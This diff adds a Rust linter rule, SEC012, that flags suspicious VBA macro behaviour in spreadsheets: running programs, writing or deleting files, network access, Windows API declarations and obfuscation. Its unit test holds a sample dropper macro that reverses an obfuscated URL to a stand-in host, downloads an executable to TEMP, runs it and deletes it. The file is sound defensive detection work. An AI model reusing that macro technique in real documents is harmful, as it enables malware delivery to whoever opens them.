@@ -0,0 +1,201 @@
+//! SEC012: Suspicious macro code
+//!
+//! Looks through VBA and Basic sources for the calls malicious macros rely on:
+//! starting programs, writing or deleting files, downloading, declaring Windows
+//! API functions, and hiding strings from scanners. Each kind of behaviour is
+//! reported once per module with the calls found and the first line using one.
+
+use super::{LinterRule, RuleAccess, RuleCategory};
+use crate::reader::Workbook;
+use crate::violation::{Severity, Violation, ViolationScope};
+use anyhow::Result;
+use regex::Regex;
+use std::sync::OnceLock;
+
+/// A kind of behaviour and the (label, pattern) pairs that reveal it
+struct Behaviour {
+    description: &'static str,
+    patterns: Vec<(&'static str, Regex)>,
+}
+
+fn behaviours() -> &'static [Behaviour] {
+    static BEHAVIOURS: OnceLock<Vec<Behaviour>> = OnceLock::new();
+    BEHAVIOURS.get_or_init(|| {
+        let behaviour = |description, patterns: &[(&'static str, &str)]| Behaviour {
+            description,
+            patterns: patterns
+                .iter()
+                .map(|(label, pattern)| (*label, Regex::new(&format!("(?i){}", pattern)).unwrap()))
+                .collect(),
+        };
+        vec![
+            behaviour(
+                "runs programs",
+                &[
+                    // Not the `Shell` of `WScript.Shell`
+                    ("Shell", r"(?:^|[^.\w])Shell(?:\s*\(|\s+[\w\x22])"),
+                    ("WScript.Shell", r"\bWScript\.Shell\b"),
+                    ("Shell.Application", r"\bShell\.Application\b"),
+                    ("ShellExecute", r"\bShellExecute(?:A|W|Ex)?\b"),
+                    ("WinExec", r"\bWinExec\b"),
+                    ("CreateProcess", r"\bCreateProcess(?:A|W)?\b"),
+                ],
+            ),
+            behaviour(
+                "writes or deletes files",
+                &[
+                    ("Kill", r"(?:^|[^.\w])Kill\s+\S"),
+                    ("FileCopy", r"\bFileCopy\b"),
+                    (
+                        "Open For Output",
+                        r"\bOpen\b.+\bFor\s+(?:Output|Append|Binary)\b",
+                    ),
+                    ("FileSystemObject", r"\bScripting\.FileSystemObject\b"),
+                    ("ADODB.Stream", r"\bADODB\.Stream\b"),
+                    ("SaveToFile", r"\bSaveToFile\b"),
+                ],
+            ),
+            behaviour(
+                "accesses the network",
+                &[
+                    ("URLDownloadToFile", r"\bURLDownloadToFile(?:A|W)?\b"),
+                    ("XMLHTTP", r"\b(?:Server)?XMLHTTP\b"),
+                    ("WinHttp", r"\bWinHttp\.WinHttpRequest\b"),
+                    ("InternetOpen", r"\bInternetOpen(?:Url)?(?:A|W)?\b"),
+                    ("URL", r"\bhttps?://"),
+                ],
+            ),
+            behaviour(
+                "declares Windows API functions",
+                &[(
+                    "Declare",
+                    r"^(?:(?:Public|Private)\s+)?Declare\s+(?:PtrSafe\s+)?(?:Function|Sub)\b",
+                )],
+            ),
+            behaviour(
+                "looks obfuscated",
+                &[
+                    ("Chr chain", r"(?:\bChrW?\$?\(\s*\d+\s*\)\s*[&+]\s*){3,}"),
+                    ("StrReverse", r"\bStrReverse\b"),
+                    ("CallByName", r"\bCallByName\b"),
+                    ("Execute", r"\bExecute(?:Global)?\s*[(\x22]"),
+                    ("Eval", r"\bEval\s*\("),
+                    ("Base64 string", r#""[A-Za-z0-9+/]{64,}={0,2}""#),
+                ],
+            ),
+        ]
+    })
+}
+
+pub struct SuspiciousMacroCodeRule;
+
+impl LinterRule for SuspiciousMacroCodeRule {
+    fn id(&self) -> &str {
+        "SEC012"
+    }
+
+    fn name(&self) -> &str {
+        "Suspicious macro code"
+    }
+
+    fn category(&self) -> RuleCategory {
+        RuleCategory::SecurityAndPrivacy
+    }
+
+    fn access(&self) -> RuleAccess {
+        RuleAccess::Metadata
+    }
+
+    fn check(&self, workbook: &Workbook) -> Result<Vec<Violation>> {
+        let mut violations = Vec::new();
+
+        for module in &workbook.macros {
+            for behaviour in behaviours() {
+                let mut found: Vec<&str> = Vec::new();
+                let mut first_line = None;
+                for (line, code) in module.code_lines() {
+                    for (label, pattern) in &behaviour.patterns {
+                        if pattern.is_match(code) {
+                            first_line.get_or_insert(line);
+                            if !found.contains(label) {
+                                found.push(label);
+                            }
+                        }
+                    }
+                }
+                let Some(line) = first_line else {
+                    continue;
+                };
+                violations.push(Violation::new(
+                    self.id(),
+                    ViolationScope::Book,
+                    format!(
+                        "Module '{}' {}: {} (first at line {})",
+                        module.qualified_name(),
+                        behaviour.description,
+                        found.join(", "),
+                        line
+                    ),
+                    Severity::Warning,
+                ));
+            }
+        }
+
+        Ok(violations)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::reader::MacroModule;
+    use std::path::PathBuf;
+
+    #[test]
+    fn test_suspicious_macro_code() {
+        let source = r#"Attribute VB_Name = "Module1"
+Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long
+Sub Run()
+    ' Shell "not code"
+    url = StrReverse("exe.daolyap/moc.elpmaxe//:sptth")
+    URLDownloadToFile 0, url, Environ("TEMP") & "\a.exe", 0, 0
+    Set sh = CreateObject("WScript.Shell")
+    sh.Run Chr(99) & Chr(109) & Chr(100) & Chr(46) & Chr(101)
+    Shell Environ("TEMP") & "\a.exe"
+    Kill Environ("TEMP") & "\a.exe"
+End Sub
+"#;
+        let workbook = Workbook {
+            path: PathBuf::from("test.xlsm"),
+            macros: vec![
+                MacroModule {
+                    library: "VBAProject".to_string(),
+                    name: "Module1".to_string(),
+                    source: source.to_string(),
+                    ..Default::default()
+                },
+                MacroModule {
+                    library: "VBAProject".to_string(),
+                    name: "Module2".to_string(),
+                    source: "Sub Total()\n    Range(\"A1\").Value = Application.Sum(Range(\"B1:B9\"))\nEnd Sub\n"
+                        .to_string(),
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+
+        let violations = SuspiciousMacroCodeRule.check(&workbook).unwrap();
+        let messages: Vec<_> = violations.iter().map(|v| v.message.as_str()).collect();
+        assert_eq!(
+            messages,
+            vec![
+                "Module 'VBAProject.Module1' runs programs: WScript.Shell, Shell (first at line 7)",
+                "Module 'VBAProject.Module1' writes or deletes files: Kill (first at line 10)",
+                "Module 'VBAProject.Module1' accesses the network: URLDownloadToFile (first at line 2)",
+                "Module 'VBAProject.Module1' declares Windows API functions: Declare (first at line 2)",
+                "Module 'VBAProject.Module1' looks obfuscated: StrReverse, Chr chain (first at line 5)",
+            ]
+        );
+    }
+}